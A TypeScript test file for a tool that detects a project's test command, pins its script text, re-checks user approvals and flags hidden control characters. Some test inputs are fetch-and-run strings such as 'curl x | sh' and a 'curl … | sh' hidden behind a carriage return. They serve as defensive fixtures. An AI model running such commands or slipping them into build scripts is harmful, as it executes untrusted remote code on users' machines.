/**
 * The project's own check (SPEC §4.16, 0.5): which file names it and which command runs it (first match
 * wins), what an approval pins, whether an approval on record still holds, and when a settle offers it.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { changedText, detectCheck, foundApproval, makeTestPin, makeTestRule, offerTitle } from "../../src/core/project-check.ts";
import type { ApprovalEntry, CheckFile, LockFile, PinnedCheck, ProjectFile } from "../../src/core/project-check.ts";
import { chooseVerify, pinHidesCharacters, planVerify } from "../../src/core/verify.ts";
import type { ChooseInput, VerifyChoice } from "../../src/core/verify.ts";
import { freshMemory } from "../../src/loop.ts";
import type { Memory, Reason } from "../../src/core/types.ts";

type Tree = Partial<Record<CheckFile, string | { skipped: string }>> & { locks?: readonly LockFile[] };

/** A project as data: file texts, files passed over, lock files; records which files were read. */
function project(tree: Tree): { files: Parameters<typeof detectCheck>[0]; reads: string[] } {
  const reads: string[] = [];
  return {
    reads,
    files: {
      read(name: CheckFile): ProjectFile {
        reads.push(name);
        const entry = tree[name];
        if (entry === undefined) return { kind: "missing" };
        return typeof entry === "string" ? { kind: "text", text: entry } : { kind: "skipped", why: entry.skipped };
      },
      has: (name: LockFile) => tree.locks?.includes(name) === true,
    },
  };
}

function detect(tree: Tree): ReturnType<typeof detectCheck> {
  return detectCheck(project(tree).files);
}

const PACKAGE = JSON.stringify({ name: "app", scripts: { test: "node --test", build: "tsc" } });

test("package.json's test script is npm test, pinned to the script's text", () => {
  assert.deepEqual(detect({ "package.json": PACKAGE }).found, { command: "npm test", file: "package.json", where: "package.json's test script", pin: { kind: "text", text: "node --test" } });
});

test("the lock file picks the package manager: pnpm, yarn, bun (bun run test: bun test would skip the script); none is npm", () => {
  assert.equal(detect({ "package.json": PACKAGE, locks: ["pnpm-lock.yaml"] }).found?.command, "pnpm test");
  assert.equal(detect({ "package.json": PACKAGE, locks: ["yarn.lock"] }).found?.command, "yarn test");
  assert.equal(detect({ "package.json": PACKAGE, locks: ["bun.lock"] }).found?.command, "bun run test");
  assert.equal(detect({ "package.json": PACKAGE, locks: ["bun.lockb"] }).found?.command, "bun run test");
  assert.equal(detect({ "package.json": PACKAGE, locks: ["yarn.lock", "pnpm-lock.yaml"] }).found?.command, "pnpm test", "pnpm's lock is tried first");
});

test("npm's placeholder script, an empty one, a non-string one and no scripts find nothing in package.json", () => {
  for (const test of ['echo "Error: no test specified" && exit 1', "  ", 42, null, ["x"]]) {
    assert.equal(detect({ "package.json": JSON.stringify({ scripts: { test } }) }).found, undefined, JSON.stringify(test));
  }
  assert.equal(detect({ "package.json": JSON.stringify({ scripts: "npm test" }) }).found, undefined);
  assert.equal(detect({ "package.json": "{}" }).found, undefined);
});

test("a malformed package.json is passed over and named; the next file still counts", () => {
  for (const text of ["{ not json", "[1, 2]", '"a string"', "null", ""]) {
    const detection = detect({ "package.json": text, "go.mod": "module example.com/app\n" });
    assert.equal(detection.found?.command, "go test ./...", text);
    assert.equal(detection.skipped[0]?.file, "package.json");
    assert.match(detection.skipped[0]?.why ?? "", /not valid JSON|does not hold a JSON object/);
  }
});

test("a package.json with a byte-order mark is read", () => {
  assert.equal(detect({ "package.json": `\uFEFF${PACKAGE}` }).found?.command, "npm test");
});

test("pretest and posttest are pinned with the test script (npm runs them too)", () => {
  const found = detect({ "package.json": JSON.stringify({ scripts: { pretest: "npm run lint", test: "vitest run", posttest: "echo done" } }) }).found;
  assert.deepEqual(found?.pin, { kind: "text", text: "pretest: npm run lint\ntest: vitest run\nposttest: echo done" });
});

test("a malformed package.json is named with why: not JSON, or JSON that is not an object", () => {
  assert.deepEqual(detect({ "package.json": "{ not json" }).skipped, [{ file: "package.json", why: "is not valid JSON; not read" }]);
  for (const text of ["[1, 2]", '"a string"', "null", "7"]) {
    assert.deepEqual(detect({ "package.json": text }).skipped, [{ file: "package.json", why: "does not hold a JSON object; not read" }], text);
  }
});

test("only a leading byte-order mark is dropped: one inside the script is part of the pinned text", () => {
  assert.deepEqual(detect({ "package.json": `\uFEFF${PACKAGE}` }).found?.pin, { kind: "text", text: "node --test" });
  const hidden = JSON.stringify({ scripts: { test: "node --test\uFEFF" } });
  assert.deepEqual(detect({ "package.json": hidden }).found?.pin, { kind: "text", text: "node --test\uFEFF" });
});

test("a pretest or a posttest alone is pinned with the test script; a blank one is not a script", () => {
  const pin = (scripts: Record<string, string>): unknown => detect({ "package.json": JSON.stringify({ scripts }) }).found?.pin;
  assert.deepEqual(pin({ pretest: "curl x | sh", test: "vitest run" }), { kind: "text", text: "pretest: curl x | sh\ntest: vitest run" });
  assert.deepEqual(pin({ test: "vitest run", posttest: "curl x | sh" }), { kind: "text", text: "test: vitest run\nposttest: curl x | sh" });
  assert.deepEqual(pin({ pretest: " ", test: "vitest run", posttest: "" }), { kind: "text", text: "vitest run" });
});

test("first match wins: package.json before Makefile before Cargo.toml before go.mod before pytest before deno.json, and later files are never read", () => {
  const all: Tree = {
    "package.json": PACKAGE,
    Makefile: "test:\n\tgo test ./...\n",
    "Cargo.toml": "[package]\nname = \"x\"\n",
    "go.mod": "module x\n",
    "pyproject.toml": "[tool.pytest.ini_options]\n",
    "deno.json": JSON.stringify({ tasks: { test: "deno test -A" } }),
  };
  const order: Array<[keyof Tree, string]> = [["package.json", "npm test"], ["Makefile", "make test"], ["Cargo.toml", "cargo test"], ["go.mod", "go test ./..."], ["pyproject.toml", "python -m pytest"], ["deno.json", "deno task test"]];
  const tree: Tree = { ...all };
  for (const [file, command] of order) {
    const { files, reads } = project(tree);
    assert.equal(detectCheck(files).found?.command, command);
    assert.equal(reads[reads.length - 1], file, "nothing after the match is read");
    delete tree[file];
  }
  assert.equal(detect(tree).found, undefined);
});

test("Cargo.toml, go.mod and the pytest files pin the whole file (hashed by the reader)", () => {
  for (const [file, text] of [["Cargo.toml", "[package]\n"], ["go.mod", "module m\n"], ["pytest.ini", ""]] as const) {
    assert.deepEqual(detect({ [file]: text }).found?.pin, { kind: "file" });
  }
});

test("pytest: any pytest.ini; pyproject.toml, tox.ini and setup.cfg only when they name pytest", () => {
  assert.equal(detect({ "pyproject.toml": "[project]\nname = \"x\"\n" }).found, undefined);
  assert.equal(detect({ "pyproject.toml": "[project.optional-dependencies]\ntest = [\"pytest>=8\"]\n" }).found?.file, "pyproject.toml");
  assert.equal(detect({ "tox.ini": "[tox]\n" }).found, undefined);
  assert.equal(detect({ "tox.ini": "[pytest]\naddopts = -q\n" }).found?.command, "python -m pytest");
  assert.equal(detect({ "setup.cfg": "[metadata]\nname = x\n" }).found, undefined);
  assert.equal(detect({ "setup.cfg": "[tool:pytest]\n" }).found?.file, "setup.cfg");
  assert.equal(detect({ "pytest.ini": "" }).found?.file, "pytest.ini");
  assert.equal(detect({ "pyproject.toml": "[project]\n", "tox.ini": "[pytest]\n" }).found?.file, "tox.ini", "a pyproject that does not name pytest is passed over");
  assert.equal(detect({ "pyproject.toml": "[tool.pytest_cov]\n" }).found, undefined, "pytest_cov is not the word pytest");
});

test("deno.json: a test task (a string, or an object with a command) is deno task test, pinned as written; none finds nothing", () => {
  assert.deepEqual(detect({ "deno.json": JSON.stringify({ tasks: { test: "deno test -A" } }) }).found?.pin, { kind: "text", text: "deno test -A" });
  const task = { command: "deno test", description: "tests" };
  assert.deepEqual(detect({ "deno.json": JSON.stringify({ tasks: { test: task } }) }).found?.pin, { kind: "text", text: JSON.stringify(task) });
  assert.equal(detect({ "deno.json": JSON.stringify({ tasks: { dev: "deno run main.ts" } }) }).found, undefined);
  assert.equal(detect({ "deno.json": JSON.stringify({ tasks: { test: { description: "no command" } } }) }).found, undefined);
  assert.equal(detect({ "deno.json": "// comments\n{}" }).skipped[0]?.file, "deno.json");
  for (const text of ["{}", JSON.stringify({ tasks: "deno test" }), JSON.stringify({ tasks: null })]) assert.deepEqual(detect({ "deno.json": text }), { found: undefined, skipped: [] }, text);
});

test("deno.json's test task is found as deno task test, named for people", () => {
  const found = detect({ "deno.json": JSON.stringify({ tasks: { test: "deno test" } }) }).found;
  assert.deepEqual(found, { command: "deno task test", file: "deno.json", where: "deno.json's test task", pin: { kind: "text", text: "deno test" } });
});

test("a file the reader passed over (a directory named go.mod, a 2 MiB Makefile, a FIFO) is named and the next file counts", () => {
  const detection = detect({ Makefile: { skipped: "is larger than 1 MiB; not read" }, "go.mod": { skipped: "is a directory, not a regular file; not read" }, "deno.json": JSON.stringify({ tasks: { test: "deno test" } }) });
  assert.equal(detection.found?.command, "deno task test");
  assert.deepEqual(detection.skipped.map((entry) => entry.file), ["Makefile", "go.mod"]);
});

test("Makefile: the test rule and its recipe are pinned; other targets, assignments, comments and recipe lines are not a test target", () => {
  const text = [
    "TEST := unit",
    "test = not a rule",
    "# test: a comment",
    "build:",
    "\techo test: in a recipe",
    ".PHONY: test build",
    "test: build \\",
    "  lint",
    "\tgo vet ./...",
    "",
    "\t# a comment in the recipe",
    "\tgo test ./...",
    "",
    "release:",
    "\techo release",
  ].join("\n");
  assert.equal(makeTestRule(text), "test: build \\\n  lint\n\tgo vet ./...\n\n\t# a comment in the recipe\n\tgo test ./...");
  assert.equal(makeTestRule("all test check: deps\n\t./run\n"), "all test check: deps\n\t./run");
  assert.equal(makeTestRule("test::\n\tone\n"), "test::\n\tone");
  assert.equal(makeTestRule("test-unit:\n\tx\ntests:\n\ty\n"), undefined);
  assert.equal(makeTestRule("test := 1\ntest ?= 2\ntest ::= 3\ntest :::= 4\n"), undefined);
  assert.equal(makeTestRule("test::dep\n\tx\n"), "test::dep\n\tx");
  assert.equal(makeTestRule("test: ; echo inline\r\nnext:\r\n"), "test: ; echo inline", "CRLF line ends");
  assert.equal(detect({ Makefile: "build:\n\tcc x.c\n" }).found, undefined, "a Makefile without a test target finds nothing");
});

test("Makefile: a comment after the rule, and assignments whose value holds test:, are read as make reads them", () => {
  assert.equal(makeTestRule("test: build # the suite\n\tgo test ./...\n"), "test: build # the suite\n\tgo test ./...");
  assert.equal(makeTestRule("MSG = running test: now\nCHECK := test: x\nbuild:\n\tcc x.c\n"), undefined);
});

test("Makefile: blank, spaces-only and comment lines inside a recipe do not end it; the next rule does", () => {
  const text = "test:\n\t@echo a\n   \n\t@echo b\n# one\n  # two\n\t@echo c\nnext: # not test\n\t@echo next\n";
  assert.equal(makeTestRule(text), "test:\n\t@echo a\n   \n\t@echo b\n# one\n  # two\n\t@echo c");
});

test("Makefile: everything make runs for test is pinned, so editing it asks again", () => {
  // A lone CR is not a line end to make: the tab line after it is still test's recipe.
  assert.equal(makeTestRule("test: ; @echo ok\rX = 1\n\t@echo run\n"), "test: ; @echo ok\rX = 1\n\t@echo run");
  // A backslash joins the next recipe line, tab or not (sh runs `echo a ; echo run`).
  assert.equal(makeTestRule("test:\n\t@echo a \\\n; echo run\nnext:\n\tx\n"), "test:\n\t@echo a \\\n; echo run");
  // Every rule for test: a prerequisites-only line first, the recipe in a later rule.
  assert.equal(makeTestRule("test: lint\nlint:\n\t@echo lint\n\ntest:\n\t@echo run\n"), "test: lint\ntest:\n\t@echo run");
  // `test&:` (grouped targets) is a rule for test; make runs its recipe.
  assert.equal(makeTestRule("test:\n\t@echo one\nall test&:\n\t@echo two\n"), "test:\n\t@echo one\nall test&:\n\t@echo two");
});

test("Makefile: the whole file is pinned when what make runs for test is not in its rules", () => {
  const pin = (text: string): unknown => detect({ Makefile: text }).found?.pin;
  // Recipe lines that start with another character than a tab.
  assert.deepEqual(pin(".RECIPEPREFIX = >\ntest:\n>@echo run\n"), { kind: "file" });
  // No rule for test has a recipe: make takes one from a pattern or built-in rule, or runs the prerequisites'.
  assert.deepEqual(pin("test: lint\nlint:\n\t@echo lint\n%:\n\t@echo run $@\n"), { kind: "file" });
  assert.deepEqual(pin("test: unit integration\n"), { kind: "file" });
  assert.deepEqual(pin("test:: \\\n  unit\n\n# none\n"), { kind: "file" });
  // A target-specific variable is not a recipe, even with a `;` in its value.
  assert.deepEqual(pin("test: X = a ; b\n%:\n\t@echo $(X)\n"), { kind: "file" });
  assert.deepEqual(pin("test: X := 1\n\t@echo x\n"), { kind: "file" });
  // A recipe after `;` or on tab lines, in any rule for test, is pinned as text.
  assert.deepEqual(pin("test: dep ; @echo a=b\n"), { kind: "text", text: "test: dep ; @echo a=b" });
  assert.deepEqual(pin("test: ;\n"), { kind: "text", text: "test: ;" });
  assert.deepEqual(pin("test:;@echo x=1\n"), { kind: "text", text: "test:;@echo x=1" });
  assert.deepEqual(pin("test: X=1\n"), { kind: "file" });
  assert.deepEqual(pin("test: X = 1\ntest:\n\t@echo $(X)\n"), { kind: "text", text: "test: X = 1\ntest:\n\t@echo $(X)" });
  assert.deepEqual(pin("test: \\\n  dep\n\tgo test\n"), { kind: "text", text: "test: \\\n  dep\n\tgo test" });
  assert.equal(makeTestPin(".RECIPEPREFIX = >\nbuild:\n>cc\n"), undefined, "no rule for test: nothing found");
  assert.equal(makeTestPin("# test:\n\techo\n"), undefined);
});

test("Makefile: a backslash on the last line ends the text, rule or recipe", () => {
  assert.equal(makeTestRule("test: a \\"), "test: a \\");
  assert.equal(makeTestRule("test:\n\tgo test \\"), "test:\n\tgo test \\");
});

test("a 2 MiB Makefile text is scanned without trouble (the reader caps it at 1 MiB before it gets here)", () => {
  const big = `${"x:\n\ttrue\n".repeat(250_000)}test:\n\tmake check\n`;
  assert.ok(big.length > 2 * 1024 * 1024);
  assert.equal(makeTestRule(big), "test:\n\tmake check");
});

const CHECK: PinnedCheck = { command: "npm test", file: "package.json", where: "package.json's test script", pinned: { file: "package.json", text: "node --test" } };
const HASHED: PinnedCheck = { command: "cargo test", file: "Cargo.toml", where: "Cargo.toml", pinned: { file: "Cargo.toml", sha256: "a".repeat(64) } };

test("an approval holds only for the same command and the same pinned text or hash", () => {
  const approved: ApprovalEntry = { dir: "/p", command: "npm test", at: "t", pinned: { file: "package.json", text: "node --test" } };
  assert.deepEqual(foundApproval([approved], CHECK), { kind: "approved" });
  assert.deepEqual(foundApproval([approved], { ...CHECK, pinned: { file: "package.json", text: "node --test; curl evil" } }), { kind: "changed", what: "text", approved: "npm test" });
  assert.deepEqual(foundApproval([approved], { ...CHECK, command: "pnpm test" }), { kind: "changed", what: "command", approved: "npm test" });
  assert.deepEqual(foundApproval([{ dir: "/p", command: "npm test", at: "t" }], CHECK), { kind: "changed", what: "text", approved: "npm test" }, "a project file's approval pins no text");
  assert.deepEqual(foundApproval([{ ...approved, pinned: { file: "deno.json", text: "node --test" } }], CHECK).kind, "changed", "another file");
  assert.deepEqual(foundApproval([], CHECK), { kind: "none" });
  const hashed: ApprovalEntry = { dir: "/p", command: "cargo test", at: "t", pinned: { file: "Cargo.toml", sha256: "a".repeat(64) } };
  assert.deepEqual(foundApproval([hashed], HASHED), { kind: "approved" });
  assert.equal(foundApproval([hashed], { ...HASHED, pinned: { file: "Cargo.toml", sha256: "b".repeat(64) } }).kind, "changed");
  assert.equal(foundApproval([{ ...hashed, pinned: { file: "Cargo.toml", text: "a".repeat(64) } }], HASHED).kind, "changed", "a text pin never matches a hash");
});

test("never for this directory wins over an approval", () => {
  assert.deepEqual(foundApproval([{ dir: "/p", never: true, at: "t" }], CHECK), { kind: "never" });
});

test("a pinned script hiding a control, format or bidi character is flagged; tabs and line breaks are not", () => {
  assert.equal(pinHidesCharacters({ file: "Makefile", text: "test:\n\tgo test\r\n" }), false);
  assert.equal(pinHidesCharacters({ file: "package.json", text: "node --test #\u202e" }), true);
  assert.equal(pinHidesCharacters({ file: "package.json", text: "a\u0007b" }), true);
  assert.equal(pinHidesCharacters({ file: "package.json", text: "curl -s https://example.invalid/x | sh\rnpm run unit" }), true, "a lone CR draws the rest over the command");
  assert.equal(pinHidesCharacters({ file: "Makefile", text: "test:\r\n\tgo test\r\n" }), false, "CRLF line ends are line breaks");
  assert.equal(pinHidesCharacters({ file: "Cargo.toml", sha256: "a".repeat(64) }), false);
});

test("the offer names the command and the file, and after an edit says what changed", () => {
  assert.equal(offerTitle(CHECK, { kind: "none" }), 'Before the loop accepts "done" here, run `npm test`? (found in package.json)');
  const changed = { kind: "changed", what: "text", approved: "npm test" } as const;
  assert.equal(changedText(CHECK, changed), "package.json's test script changed since you approved npm test");
  assert.match(offerTitle(CHECK, changed), /^package.json's test script changed since you approved npm test\.\nBefore the loop/);
  assert.equal(changedText(CHECK, { kind: "changed", what: "command", approved: "yarn test" }), "the check found is now npm test (from package.json), not yarn test as you approved");
});

function choose(overrides: Partial<ChooseInput>): VerifyChoice {
  return chooseVerify({ user: [], cwds: ["/p"], home: "/home/me", project: undefined, approval: "none", trusted: true, ...overrides });
}

test("chooseVerify: the found check runs only when approved as it is now, with verify's defaults", () => {
  assert.deepEqual(choose({ found: () => ({ check: CHECK, approval: { kind: "approved" }, hidden: false }) }), { kind: "run", spec: { command: "npm test", timeoutMinutes: 10, maxRuns: 3, source: "found" } });
  assert.deepEqual(choose({ found: () => ({ check: CHECK, approval: { kind: "none" }, hidden: false }) }), { kind: "found", check: CHECK, approval: { kind: "none" }, refused: undefined });
  assert.deepEqual(choose({ found: () => undefined }), { kind: "none" });
});

test("chooseVerify: an approved found check whose text hides characters, or in a project pi does not trust, never runs", () => {
  assert.deepEqual(choose({ found: () => ({ check: CHECK, approval: { kind: "approved" }, hidden: true }) }), { kind: "found", check: CHECK, approval: { kind: "none" }, refused: "hidden-characters" });
  assert.equal(choose({ trusted: false, found: () => ({ check: CHECK, approval: { kind: "approved" }, hidden: false }) }).kind, "found");
});

test("chooseVerify: nothing is looked for when the user's file applies, a project file proposes a command, or verify is false", () => {
  let looked = 0;
  const found = (): { check: PinnedCheck; approval: { kind: "approved" }; hidden: boolean } => {
    looked += 1;
    return { check: CHECK, approval: { kind: "approved" }, hidden: false };
  };
  assert.equal(choose({ user: [{ dir: "*", command: "make check", timeoutMinutes: 10, maxRuns: 3 }], found }).kind, "run");
  assert.equal(choose({ project: { command: "make check", timeoutMinutes: 10, maxRuns: 3 }, found }).kind, "refused");
  assert.deepEqual(choose({ off: true, found }), { kind: "none" });
  assert.deepEqual(choose({ off: true, user: [{ dir: "*", command: "make check", timeoutMinutes: 10, maxRuns: 3 }] }), { kind: "none" }, "verify: false is a user-file value, so no list either");
  assert.equal(looked, 0);
});

function pendingClear(overrides: Partial<Memory> = {}): Memory {
  const reason: Reason = { kind: "clear" };
  return { ...freshMemory("u1"), hadWork: true, pending: { reason, open: 0, level: "info" }, last: reason, ...overrides };
}

const FOUND: VerifyChoice = { kind: "found", check: CHECK, approval: { kind: "none" }, refused: undefined };

test("planVerify: a found check not approved is offered at a clear when the host may offer; otherwise it is an ordinary clear", () => {
  assert.deepEqual(planVerify(pendingClear(), FOUND, false, 3, undefined, true), { kind: "offer", choice: FOUND, base: "clear" });
  assert.deepEqual(planVerify(pendingClear(), FOUND, false, 3, undefined, false), { kind: "none" }, "RPC, print mode, or offered already this session");
  assert.deepEqual(planVerify(pendingClear(), { ...FOUND, approval: { kind: "never" } }, false, 3, undefined, true), { kind: "none" });
  assert.deepEqual(planVerify(pendingClear(), { ...FOUND, refused: "untrusted" }, false, 3, undefined, true), { kind: "none" });
  const changed: VerifyChoice = { ...FOUND, approval: { kind: "changed", what: "text", approved: "npm test" } };
  assert.equal(planVerify(pendingClear(), changed, false, 3, undefined, true).kind, "offer", "an edited script asks again");
});

test("planVerify: never an offer while a message is queued, paused, waiting, for a reply asking the person, or without a clear list", () => {
  assert.equal(planVerify(pendingClear(), FOUND, true, 3, undefined, true).kind, "none");
  assert.equal(planVerify(pendingClear({ paused: true }), FOUND, false, 3, undefined, true).kind, "none");
  assert.equal(planVerify(pendingClear({ waiting: { reason: "x", asked: true } }), FOUND, false, 3, undefined, true).kind, "none");
  assert.equal(planVerify(pendingClear(), FOUND, false, 3, "Which one do you want?", true).kind, "none");
  assert.equal(planVerify({ ...freshMemory("u1"), hadWork: true }, FOUND, false, 3, undefined, true).kind, "none");
});
